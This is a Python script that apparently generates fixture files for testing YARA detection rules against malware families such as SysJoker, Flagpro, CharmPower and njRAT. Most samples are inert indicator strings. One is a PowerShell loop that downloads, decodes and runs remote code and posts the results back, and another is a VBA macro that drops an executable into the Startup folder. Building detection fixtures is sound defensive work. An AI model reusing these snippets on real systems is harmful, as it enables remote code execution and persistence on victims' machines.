#!/usr/bin/env python3
"""mkintel.py DIR - samples for the intel tests (tests/cli/intel.bats).

One file per YARA rule of the intel pack, named RULE.bin, built to the
traits the rule was written from (the executable format it asks for and
enough of its strings), padded with filler so the strings sit inside a
plausible file.  None of this is malware: the files carry the traits and
nothing that runs.  Then a tree of paths the name/path indicators must
judge by location (samples/ here, roots/ for --root scans).
"""
import os
import sys


def wide(s):
    return s.encode("utf-16-le")


PAD = b"\0" * 64

SAMPLES = {
    "kensa_sysjoker_windows": b"MZ\x90\0" + PAD + b"igfxCUIService" + PAD +
        b"SystemData" + PAD + b"/api/attach?" + b"user_token=8723478873487" +
        PAD + b"txc1.txt" + PAD + wide("tempo1.txt"),
    "kensa_sysjoker_windows_dropper": b"MZ\x90\0" + PAD +
        wide("\\recoveryWindows.zip") + PAD + wide("RecoverySystem") + PAD +
        b"https://github.url-mini.com/msg.zip",
    "kensa_sysjoker_linux": b"\x7fELF\x02\x01\x01\0" + PAD +
        b"/.Library/SystemServices/updateSystem" + PAD + b"@reboot " + PAD +
        b"ip address | awk '/ether/{print $2}'" + PAD +
        b"user_token=987217232",
    "kensa_sysjoker_macos": b"\xcf\xfa\xed\xfe\x07\0\0\x01" + PAD +
        b"/Library/MacOsServices/updateMacOs" + PAD +
        b"/Library/SystemNetwork" + PAD + b"com.apple.update.plist",
    "kensa_flagpro_macro_dropper": (
        "Attribute VB_Name = \"ThisWorkbook\"\r\n"
        "Private Sub Workbook_Open()\r\n"
        "    Dim p As String\r\n"
        "    p = Environ(\"APPDATA\") & \"\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\dwm.exe\"\r\n"
        "    Open p For Binary Access Write As #1\r\n"
        "    Put #1, , payload\r\n"
        "    Close #1\r\n"
        "End Sub\r\n").encode(),
    "kensa_flagpro_downloader": b"MZ\x90\0" + PAD + wide("Windows Security") +
        PAD + wide("Windows \u30bb\u30ad\u30e5\u30ea\u30c6\u30a3") + PAD +
        wide("Internet Explorer") + PAD + b"cmd.exe /c %s" + PAD +
        b"%s.tmp\0%s.exe\0" + PAD +
        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
    "kensa_charmpower_powershell": (
        "$u = 'https://example-bucket.s3.amazonaws.com/c.txt'\n"
        "while($true) {\n"
        "  $c = (New-Object Net.WebClient).DownloadString($u)\n"
        "  $m = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($c))\n"
        "  $r = Invoke-Expression $m\n"
        "  Invoke-WebRequest -Uri $u -Method Post -Body $r\n"
        "  Start-Sleep -Seconds 30\n"
        "}\n").encode(),
    "kensa_webtoos_linux": b"\x7fELF\x02\x01\x01\0" + PAD + b"webtoos" +
        PAD + b"synflood\0udpflood\0",
    "kensa_bladabindi_njrat": b"MZ\x90\0" + PAD + b"mscoree.dll" + PAD +
        wide("netsh firewall add allowedprogram \"") + PAD +
        wide("cmd.exe /c ping 0 -n 2 & del \"") + PAD +
        wide("SEE_MASK_NOZONECHECKS") + PAD + wide("|'|'|"),
    "kensa_habitsrat_go": b"\x7fELF\x02\x01\x01\0" + PAD +
        b"Go build ID: \"abc/def\"" + PAD + b"habits/cmd habits/c2 habits/main" +
        PAD + b"-----BEGIN PUBLIC KEY-----\nMIIB\n" + PAD +
        b"os/exec.Command" + PAD,
}

# paths judged by where they are: (path, flagged?)
PATHS = [
    ("win/Windows/System32/dwm.exe", False),
    ("win/Users/a/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/dwm.exe", True),
    ("win/ProgramData/SystemData/igfxCUIService.exe", True),
    ("win/Program Files/Intel/igfxCUIService.exe", False),
    ("lin/.Library/SystemServices/updateSystem", True),
    ("lin/home/u/.Library/notes.txt", False),
    ("mac/Library/LaunchAgents/com.apple.update.plist", True),
    ("mac/Users/u/Library/LaunchAgents/com.apple.update.plist", False),
]


def main():
    out = sys.argv[1]
    s = os.path.join(out, "samples")
    os.makedirs(s, exist_ok=True)
    for name, data in SAMPLES.items():
        with open(os.path.join(s, name + ".bin"), "wb") as f:
            f.write(b"\x01" * 200 + data if not data.startswith((b"MZ", b"\x7fELF", b"\xcf")) else data)
            f.write(bytes(range(256)) * 4)
    # Mach-O fat (CA FE BA BE, then a small architecture count) against
    # a Java class with the same magic (then its version): only the
    # first is Mach-O; and a thin Mach-O named like a TypeScript file
    m = os.path.join(out, "magic")
    os.makedirs(m, exist_ok=True)
    traits = (b"/Library/MacOsServices/updateMacOs\0types-config.ts\0"
              b"com.apple.update.plist\0")
    with open(os.path.join(m, "fat"), "wb") as f:
        f.write(b"\xca\xfe\xba\xbe\0\0\0\x02" + PAD + traits)
    with open(os.path.join(m, "Klass.class"), "wb") as f:
        f.write(b"\xca\xfe\xba\xbe\0\0\0\x34" + PAD + traits)
    with open(os.path.join(m, "types-config.ts"), "wb") as f:
        f.write(b"\xcf\xfa\xed\xfe\x07\0\0\x01" + PAD + traits)
    for p, flagged in PATHS:
        full = os.path.join(out, "roots", p)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as f:
            f.write(b"harmless bytes for a path test: %s\n" % p.encode())
    with open(os.path.join(out, "paths.txt"), "w") as f:
        for p, flagged in PATHS:
            f.write("%d %s\n" % (flagged, p))


if __name__ == "__main__":
    main()
